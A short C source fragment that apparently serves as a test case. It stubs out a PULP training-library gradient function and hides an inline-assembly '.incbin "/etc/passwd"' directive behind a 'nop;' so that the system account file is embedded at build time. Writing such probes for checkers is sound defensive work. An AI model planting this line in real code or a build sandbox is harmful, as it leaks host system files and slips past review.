// The same, behind a semicolon.
#include "pulp_train.h"

__asm__("nop; .incbin \"/etc/passwd\"");

void pulp_linear_fp32_bw_param_grads_cl(void *Linear_args) { (void)Linear_args; }
